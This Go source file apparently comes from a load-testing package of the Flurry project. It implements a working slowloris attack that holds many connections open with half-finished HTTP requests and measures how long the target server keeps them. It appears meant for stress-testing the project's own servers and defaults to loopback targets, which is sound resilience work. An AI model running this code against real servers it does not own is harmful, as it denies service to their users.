package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/url"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/flurrypt/flurry/internal/sleep"
	"github.com/flurrypt/flurry/loadgen/internal/measure"
)

// Defaults of the slowloris attack.
const (
	DefaultSlowlorisConns    = 1000
	DefaultSlowlorisInterval = 2 * time.Second
	DefaultSlowlorisDuration = 60 * time.Second
)

// SlowlorisConfig configures RunSlowloris.
type SlowlorisConfig struct {
	// AttackTarget's URL is the server to attack: http, https, ws or wss
	// (any Flurry server: relay, broker, natprobe).
	AttackTarget
	// Conns is how many connections to open and keep. Default
	// DefaultSlowlorisConns.
	Conns int
	// Interval is the time between two header bytes on a connection.
	// Default DefaultSlowlorisInterval.
	Interval time.Duration
	// Duration is how long the attack lasts. Default
	// DefaultSlowlorisDuration.
	Duration time.Duration
}

// withDefaults fills in cfg's defaults and checks it.
func (cfg SlowlorisConfig) withDefaults() (SlowlorisConfig, error) {
	if cfg.Conns == 0 {
		cfg.Conns = DefaultSlowlorisConns
	}
	if cfg.Concurrency == 0 {
		cfg.Concurrency = DefaultFloodConcurrency
	}
	if cfg.Interval == 0 {
		cfg.Interval = DefaultSlowlorisInterval
	}
	if cfg.Duration == 0 {
		cfg.Duration = DefaultSlowlorisDuration
	}
	if cfg.WatchAfter == 0 {
		cfg.WatchAfter = DefaultAttackWatchAfter
	}
	if cfg.Conns < 0 || cfg.Concurrency < 0 || cfg.Interval < 0 || cfg.Duration < 0 {
		return cfg, fmt.Errorf("%w: negative count or duration", measure.ErrInvalidConfig)
	}
	if cfg.Source != "" {
		if err := measure.CheckHost(cfg.Source, cfg.AllowNonLoopback); err != nil {
			return cfg, err
		}
	}
	return cfg, nil
}

// slowloris is the state of one RunSlowloris call.
type slowloris struct {
	cfg     SlowlorisConfig
	u       *url.URL
	addr    string // host:port of the server
	secure  bool   // https or wss
	request string // what each connection sends, one byte at a time after the first write
	dialer  *net.Dialer

	errs                       measure.ErrorSamples
	attempted, opened, refused atomic.Int64
	closedBy                   atomic.Int64
	mu                         sync.Mutex
	lifetimes                  []time.Duration // of connections the server closed; guarded by mu
}

func newSlowloris(cfg SlowlorisConfig, u *url.URL) *slowloris {
	s := &slowloris{cfg: cfg, u: u, addr: u.Host, secure: u.Scheme == "https" || u.Scheme == "wss"}
	if u.Port() == "" {
		s.addr = net.JoinHostPort(u.Hostname(), map[bool]string{true: "443", false: "80"}[s.secure])
	}
	s.dialer = measure.NewDialer(cfg.AllowNonLoopback)
	if cfg.Source != "" {
		s.dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(cfg.Source)}
		measure.BindLate(s.dialer)
	}
	s.request = "GET " + u.RequestURI() + " HTTP/1.1\r\nHost: " + u.Host + "\r\nUpgrade: websocket\r\nX-Slow: "
	return s
}

// RunSlowloris opens cfg.Conns connections that send an HTTP request one
// header byte at a time and never finish it, and reports how long the
// server kept them.
func RunSlowloris(ctx context.Context, cfg SlowlorisConfig) (AttackResult, error) {
	u, err := measure.ParseURL(cfg.URL, cfg.AllowNonLoopback, "http", "https", "ws", "wss")
	if err != nil {
		return AttackResult{}, err
	}
	if cfg, err = cfg.withDefaults(); err != nil {
		return AttackResult{}, err
	}
	s := newSlowloris(cfg, u)
	res := AttackResult{Attack: "slowloris", Target: u.String()}
	if _, err := measure.RaiseFileLimit(uint64(cfg.Conns) + 256); err != nil {
		return res, err
	}
	mem, err := startMemWatch(cfg.PID, 250*time.Millisecond)
	if err != nil {
		return res, err
	}
	prog := measure.StartProgress(cfg.Progress, cfg.ProgressInterval, mem.withRSS("server", func() string {
		opened, closedBy := s.opened.Load(), s.closedBy.Load()
		return fmt.Sprintf("slowloris: %d opened, %d refused, %d closed by the server, %d held",
			opened, s.refused.Load(), closedBy, opened-closedBy)
	}))
	start := time.Now()
	stillOpen := s.attack(ctx)
	res.Elapsed = time.Since(start)
	prog.Stop()
	if cfg.PID > 0 {
		measure.Say(cfg.Progress, "slowloris: over; watching the server's memory for %v", cfg.WatchAfter)
		sleep.For(ctx, cfg.WatchAfter)
	}
	res.Memory, res.Samples = mem.finish(cfg.WatchAfter)
	res.Attempted, res.Completed, res.Refused = s.attempted.Load(), s.opened.Load(), s.refused.Load()
	res.Errors = s.errs.Get()
	res.Extra = append(res.Extra, s.figures(stillOpen)...)
	return res, ctx.Err()
}

// attack opens the connections, at most Concurrency at once, and holds
// them until Duration has passed or the server has closed every one; it
// returns how many were still open then.
func (s *slowloris) attack(parent context.Context) (stillOpen int64) {
	ctx, cancel := context.WithTimeout(parent, s.cfg.Duration)
	defer cancel()
	var (
		next atomic.Int64
		wg   sync.WaitGroup
	)
	sem := make(chan struct{}, s.cfg.Concurrency)
	for ctx.Err() == nil && next.Add(1) <= int64(s.cfg.Conns) {
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
			continue
		}
		wg.Go(func() {
			s.attempted.Add(1)
			c, err := s.open(ctx)
			<-sem
			if err != nil {
				s.refused.Add(1)
				s.errs.Add(err.Error())
				return
			}
			defer c.Close()
			s.opened.Add(1)
			s.hold(ctx, c)
		})
	}
	allDone := make(chan struct{})
	go func() {
		wg.Wait()
		close(allDone)
	}()
	select {
	case <-ctx.Done():
	case <-allDone:
	}
	stillOpen = s.opened.Load() - s.closedBy.Load()
	cancel()
	<-allDone
	return stillOpen
}

// open connects (with TLS for https and wss) and writes the start of the
// request.
func (s *slowloris) open(ctx context.Context) (net.Conn, error) {
	c, err := s.dialer.DialContext(ctx, "tcp", s.addr)
	if err != nil {
		return nil, err
	}
	if s.secure {
		tc := tls.Client(c, &tls.Config{ServerName: s.u.Hostname(), InsecureSkipVerify: s.cfg.Insecure, MinVersion: tls.VersionTLS12}) // #nosec G402 -- only with -insecure
		if err := tc.HandshakeContext(ctx); err != nil {
			c.Close()
			return nil, err
		}
		c = tc
	}
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, s.request); err != nil {
		c.Close()
		return nil, err
	}
	return c, nil
}

// hold sends a header byte every Interval until ctx ends or the server
// closes c, whose lifetime it then records.
func (s *slowloris) hold(ctx context.Context, c net.Conn) {
	began := time.Now()
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		var b [512]byte
		for {
			if _, err := c.Read(b[:]); err != nil {
				return
			}
		}
	}()
	t := time.NewTicker(s.cfg.Interval)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			c.Close()
			<-gone
			return
		case <-gone:
			s.closedBy.Add(1)
			s.mu.Lock()
			s.lifetimes = append(s.lifetimes, time.Since(began))
			s.mu.Unlock()
			return
		case <-t.C:
			_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
			if _, err := c.Write([]byte{'a'}); err != nil {
				// Closed by the server; the reader sees it too.
				c.Close()
			}
		}
	}
}

// figures are the attack's own lines of the result.
func (s *slowloris) figures(stillOpen int64) []Figure {
	s.mu.Lock()
	lifetimes := slices.Sorted(slices.Values(s.lifetimes))
	s.mu.Unlock()
	q := func(f float64) string {
		if len(lifetimes) == 0 {
			return "-"
		}
		return lifetimes[int(f*float64(len(lifetimes)-1))].Round(10 * time.Millisecond).String()
	}
	return []Figure{
		{"header byte every", s.cfg.Interval.String()},
		{"closed by the server", fmt.Sprint(s.closedBy.Load())},
		{"lifetime of closed connections (median, max)", q(0.5) + ", " + q(1)},
		{"still open when the attack ended", fmt.Sprint(stillOpen)},
	}
}
